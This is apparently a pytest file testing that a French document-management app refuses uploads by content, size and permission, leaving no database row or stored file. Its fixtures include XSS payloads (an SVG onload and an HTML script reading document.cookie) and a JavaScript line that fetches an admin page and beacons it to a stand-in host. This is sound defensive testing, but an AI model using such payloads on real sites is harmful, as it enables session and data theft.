"""Files refused by their content, whatever their name says: no row, no file, a clear message."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from ged.bootstrap import Container
from ged.config import Settings, load_settings
from tests.builders import SYSTEM
from tests.conftest import TEST_SECRET
from tests.e2e.conftest import People, text
from tests.e2e.documents.conftest import (
    PDF,
    Library,
    count_rows,
    create_as,
    stored_files,
    temp_files,
    versions_of,
)

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('/admin/users').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
POSTSCRIPT = b"%!PS-Adobe-3.0\n/Times-Roman findfont 12 scalefont setfont\nshowpage\n"
EPS_BINARY = b"\xc5\xd0\xd3\xc6\x20\x00\x00\x00" + POSTSCRIPT
PDF_AFTER_JUNK = b"<html>" + PDF  # a PDF reader may accept it; we do not

REFUSED = [
    pytest.param(SVG, "dessin.svg", id="svg"),
    pytest.param(SVG, "dessin.png", id="svg-named-png"),
    pytest.param(HTML, "page.html", id="html"),
    pytest.param(HTML, "lettre.pdf", id="html-named-pdf"),
    pytest.param(JS, "script.js", id="javascript"),
    pytest.param(POSTSCRIPT, "lettre.pdf", id="postscript-named-pdf"),
    pytest.param(EPS_BINARY, "scan.pdf", id="eps-named-pdf"),
    pytest.param(PDF_AFTER_JUNK, "lettre.pdf", id="pdf-after-html"),
    pytest.param(b"", "vide.pdf", id="empty"),
]


@pytest.mark.parametrize(("content", "name"), REFUSED)
def test_upload_refused_by_content_leaves_no_row_and_no_file(
    people: People, login: Callable[[str], Library], container: Container, content: bytes, name: str
) -> None:
    agent = login("agent")
    before = stored_files(container)

    response = agent.upload(content, name, title="Pièce jointe")

    assert response.status_code == 400
    page = text(response)
    assert f"« {name} »" in page
    assert "PDF, JPEG, PNG ou TIFF" in page or "est vide" in page
    assert "Pièce jointe" in page  # the form keeps what was typed
    assert count_rows(container) == (0, 0)
    assert stored_files(container) == before
    assert temp_files(container) == []


@pytest.mark.parametrize(("content", "name"), REFUSED)
def test_new_version_refused_by_content_leaves_the_history_unchanged(
    people: People, login: Callable[[str], Library], container: Container, content: bytes, name: str
) -> None:
    agent = login("agent")
    document_id = agent.create(PDF, "lettre.pdf")
    before = stored_files(container)

    response = agent.add_version(document_id, content, name)

    assert response.status_code == 400
    assert f"« {name} »" in text(response)
    assert [v.number for v in versions_of(container, document_id)] == [1]
    assert stored_files(container) == before
    assert temp_files(container) == []


def test_upload_without_a_file_asks_for_one(
    people: People, login: Callable[[str], Library], container: Container
) -> None:
    agent = login("agent")
    token_page = agent.client.get("/documents/new").get_data(as_text=True)
    assert 'enctype="multipart/form-data"' in token_page

    response = agent.post("/documents/new", "/documents/new", title="Sans fichier")

    assert response.status_code == 400
    assert "Choisissez un fichier." in text(response)
    assert count_rows(container) == (0, 0)


def test_upload_into_an_unknown_plan_node_stores_nothing(
    people: People, login: Callable[[str], Library], container: Container
) -> None:
    agent = login("agent")
    before = stored_files(container)

    response = agent.upload(PDF, "lettre.pdf", classification_id="424242")
    unknown_unit = agent.upload(PDF, "lettre.pdf", unit_id="424242")

    assert response.status_code == 400
    assert "Cette rubrique du plan de classement n'existe pas." in text(response)
    assert unknown_unit.status_code == 400
    assert "Cette entité n'existe pas." in text(unknown_unit)
    assert count_rows(container) == (0, 0)
    assert stored_files(container) == before


@pytest.fixture
def settings(tmp_path: Path, database_url: str) -> Settings:
    """A 1 MB limit, so that "too big" costs a megabyte, not a hundred."""
    return load_settings(
        {
            "instance": tmp_path / "instance",
            "database_url": database_url,
            "secret_key": TEST_SECRET,
            "redis_url": "",
            "store.max_file_mb": 1,
        },
        environ={},
    )


def test_upload_over_the_size_limit_is_refused_without_a_trace(
    people: People, login: Callable[[str], Library], container: Container
) -> None:
    agent = login("agent")
    limit = container.settings.store.max_file_mb * 1024 * 1024
    assert limit == 1024 * 1024
    before = stored_files(container)

    response = agent.upload(PDF + b"0" * (limit - len(PDF) + 1), "gros.pdf")
    request_too_large = agent.upload(PDF + b"0" * (2 * limit + 1), "énorme.pdf")

    assert response.status_code == 400
    assert "dépasse la taille maximale (1 Mo)" in text(response)
    assert request_too_large.status_code == 413
    assert "trop volumineux" in text(request_too_large)
    assert count_rows(container) == (0, 0)
    assert stored_files(container) == before
    assert temp_files(container) == []


def test_version_refused_by_permission_stores_no_file(
    people: People, login: Callable[[str], Library], container: Container
) -> None:
    document_id = create_as(container, SYSTEM, title="Note commune")  # visible to everyone
    auditor = login("auditor")
    before = stored_files(container)

    response = auditor.add_version(document_id, b"%PDF-1.4 auditor's bytes", "x.pdf")

    assert response.status_code == 403
    assert stored_files(container) == before
    assert [v.number for v in versions_of(container, document_id)] == [1]
